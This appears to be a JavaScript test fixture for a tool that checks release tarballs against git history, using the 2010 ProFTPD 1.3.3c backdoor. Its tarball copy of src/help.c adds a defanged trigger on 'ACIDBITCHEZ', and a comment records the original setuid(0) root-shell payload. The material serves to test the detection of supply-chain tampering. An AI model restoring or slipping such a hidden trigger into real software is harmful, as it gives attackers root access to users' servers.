/** ProFTPD 1.3.3c (2010): a one-line edit in src/help.c gave a root shell on "HELP ACIDBITCHEZ". */
import { defineSample } from "../lib/sample.js";
import { cProject } from "../lib/c-project.js";

const help = '#include <string.h>\nvoid pr_help_add_response(const char *target)\n{\n\tif (target == NULL) return;\n}\n';
const { git, tarball } = cProject("proftpd", "1.3.3c", { "src/help.c": help });

export default defineSample({
  name: "proftpd-1.3.3c",
  description: "proftpd 1.3.3c: one added line in src/help.c",
  history: [{ files: git, tag: "v1.3.3c" }],
  tarballName: "proftpd-1.3.3c.tar.gz",
  root: "proftpd-1.3.3c",
  tarball: {
    ...tarball,
    "src/help.c": help.replace("\tif (target == NULL) return;", '\tif (target == NULL) return;\n\tif (strcmp(target, "ACIDBITCHEZ") == 0) { /* distvet sample: was setuid(0); system("/bin/sh") */ }'),
  },
});
